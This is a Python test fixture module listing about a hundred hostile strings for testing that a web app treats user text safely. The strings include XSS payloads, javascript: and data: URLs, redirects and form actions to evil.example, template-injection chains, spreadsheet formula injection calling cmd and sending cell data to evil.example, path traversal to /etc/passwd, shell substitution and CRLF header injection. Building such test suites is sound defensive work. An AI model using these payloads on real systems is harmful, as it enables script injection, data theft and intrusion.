"""A hundred texts that somebody might give as a name, a reason or a content to have something else done with it.

Each would, if it were taken for more than a text, set `window.ran`, ask for `/ran/` or another host, or move the page.
All are of at most 200 characters, so that each fits wherever text is free. `test_hostile.py` puts them there.
"""

from __future__ import annotations

from typing import Final

_RUN: Final = "window.ran=fetch(/ran/)"
ELSEWHERE: Final = "evil.example"
"""The host of others."""

_GIVEN: Final[dict[str, tuple[str, ...]]] = {
    "script": (
        "<script>RUN</script>",
        "<ScRiPt/x>RUN</sCrIpT >",
        "<scr<script>ipt>RUN</scr</script>ipt>",
        "<script src=//evil.example/x.js></script>",
        "<script src=/ran/></script>",
        "</script><script>RUN</script>",
        "<script type=module>RUN</script>",
        "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    ),
    "event handler": (
        "<img src=x onerror=RUN>",
        "<img src=/ran/>",
        "<body onload=RUN>",
        "<details open ontoggle=RUN>",
        "<video><source onerror=RUN></video>",
        "<input autofocus onfocus=RUN>",
        "<marquee onstart=RUN>x</marquee>",
        "<p style=animation:x onanimationstart=RUN>x</p>",
        "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
        "<object data=/ran/></object><embed src=/ran/>",
    ),
    "SVG and MathML": (
        "<svg/onload=RUN>",
        "<svg><script>RUN</script></svg>",
        "<svg><animate onbegin=RUN attributeName=x dur=1s>",
        "<svg><use href=//evil.example/x.svg#x></svg>",
        "<svg><style><img src=x onerror=RUN></style></svg>",
        "<math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
        "<math><annotation-xml encoding=text/html><script>RUN</script></annotation-xml></math>",
        "<math href=javascript:RUN>click</math>",
    ),
    "end of an attribute": (
        '"><script>RUN</script>',
        "'><script>RUN</script>",
        '" autofocus onfocus=RUN x="',
        "' autofocus onfocus=RUN x='",
        "` onmouseover=RUN x=`",
        "x onfocus=RUN autofocus",
        '"/><img src=x onerror=RUN><i x="',
        '\\"><img src=x onerror=RUN>',
        '" formaction="//evil.example" type="submit',
        '" action="https://evil.example/" method="get',
    ),
    "address": (
        "javascript:RUN",
        "JaVaScRiPt:RUN//",
        "java&Tab;script:RUN",
        "data:text/html,<script>RUN</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "//evil.example/",
        "https:evil.example",
        "/\\evil.example",
        "https://evil.example/#/dashboard/",
        "<a href=javascript:RUN>log in again</a>",
        "<base href=//evil.example/>",
        '<meta http-equiv=refresh content="0;url=//evil.example/">',
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<form action=//evil.example><input name=csrf><button>Log in",
    ),
    "end of an element": (
        "</title><script>RUN</script>",
        "</textarea><script>RUN</script>",
        "</option></select><img src=x onerror=RUN>",
        "</td></tr></table><img src=x onerror=RUN>",
        "</template><img src=x onerror=RUN>",
        "</pre></code><img src=x onerror=RUN>",
        "</div></section></main></body></html>",
        "<!--",
        "--><img src=x onerror=RUN><!--",
        "]]><script>RUN</script><![CDATA[",
        "<plaintext>",
        "<textarea>",
        "<title>",
        "<template>",
    ),
    "attribute that a script reads": (
        "<a hx-get=/ran/ hx-trigger=load>x</a>",
        '" hx-get="/ran/" hx-trigger="load" x="',
        "<p hx-on::load=RUN hx-on:click=RUN>x</p>",
        "<p data-hx-get=/ran/ data-hx-trigger=load>x</p>",
        "<p x-data x-init=RUN v-html=RUN ng-init=RUN>x</p>",
        '" data-live="/ran/" data-copy="x',
        "__proto__",
    ),
    "style": (
        "</style><img src=x onerror=RUN>",
        "<style>*{display:none}</style>",
        "<style>@import '//evil.example/x.css';</style>",
        '" style="position:fixed;inset:0;background:url(//evil.example)',
        "<p style=position:fixed;inset:0;width:9000px;z-index:99>x</p>",
        "expression(RUN)",
    ),
    "template": (
        "{{7*7}}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% include '/etc/passwd' %}",
        "{% endblock %}{% raw %}",
        "{{{constructor.constructor('RUN')()}}}",
        "${RUN}",
        "#{RUN} <%= RUN %>",
        "%(csrf)s {csrf} {0.__class__} %s%n",
    ),
    "entity": (
        "&lt;script&gt;RUN&lt;/script&gt;",
        "&amp;lt;img src=x onerror=RUN&amp;gt;",
        "&#x3C;img src=x onerror=RUN&#x3E;",
        "&#60;img src=x onerror=RUN",
        "\\u003cimg src=x onerror=RUN\\u003e",
        "%3Cimg%20src=x%20onerror=RUN%3E%00",
        "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    ),
    "JSON": (
        '"}],"allow":true,"x":[{"y":"',
        "\\",
        "');RUN;('",
        '";RUN;"',
    ),
    "formula": (
        '=HYPERLINK("https://evil.example/?"&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '"=1+1',
        "x,=1+1",
        "＝1+1",  # some spreadsheets take it for a formula
    ),
    "message": (
        "<!channel> <!here|x> <@U123> <#C1>",
        "<https://evil.example|log in here>",
        "[log in here](https://evil.example) ![](//evil.example/x.png)",
        "*bold* _x_ ~s~ `code` > quote @everyone",
        "<at>everybody</at> {{DATE(2020-01-01T00:00:00Z)}} {{{TIME(x)}}}",
    ),
    "path": (
        "../../../../etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "..\\..\\windows\\win.ini",
        "C:\\x|y:z*?",
        "-rf --help; $(touch ran) `touch ran` && x",
    ),
    "much": (
        "W" * 200,
        "<" * 200,
        "a\u0300\u0301\u0302\u0303\u0316\u0323\u0489" * 25,
        "\ufdfd" * 100,
        "\U0001f926" * 100,
        "m" + ".m" * 99,
        "\u3164" * 100,
    ),
    "look-alike": (
        "\u0430dmin",  # the first letter is Cyrillic
        "ａｄｍｉｎ",
        "\u2039script\u203aRUN",
        "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
        "\u05d0\u05d1\u05d2 denied (evil) \u0627\u0644",
    ),
}

HIDDEN: Final[dict[str, tuple[str, ...]]] = {
    "direction": (
        "\u202eexe.gpj\u202c",
        "bot\u2066\u202e deifed \u2069allowed",
        "\u200f\u202b\u202dx",
    ),
    "zero width": (
        "ad\u200bmin\u200d\u2060\ufeff",
        "\u200b" * 200,
        "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 10,
        "\U000e0041\U000e0042\u00ad",
    ),
    "line": (
        'x\ndata: {"entry":{"allow":true}}\n\n',
        "x\r\nset-cookie: aig_session=evil\r\n\r\n<script>RUN</script>",
        "x\u2028RUN\u2029",
        "first\x0bsecond\x0cthird\x85fourth",
        "\t=1+1",
        "\r=1+1",
    ),
    "control": (
        "a\x00b<script>RUN</script>",
        "\x1b[2J\x1b]0;evil\x07",
        "\x01\x08\x7f\x9b",
    ),
}
"""Those with characters that nobody sees: a line of text has none, so they are refused wherever one is asked for."""


def _filled(given: dict[str, tuple[str, ...]]) -> list[tuple[str, str]]:
    return [(kind, text.replace("RUN", _RUN)) for kind, texts in given.items() for text in texts]


LINES: Final = _filled(_GIVEN)
"""Kinds and texts that are one line, each of which is allowed wherever text is free."""
TEXTS: Final = LINES + _filled(HIDDEN)
KINDS: Final = frozenset(kind for kind, _ in TEXTS)
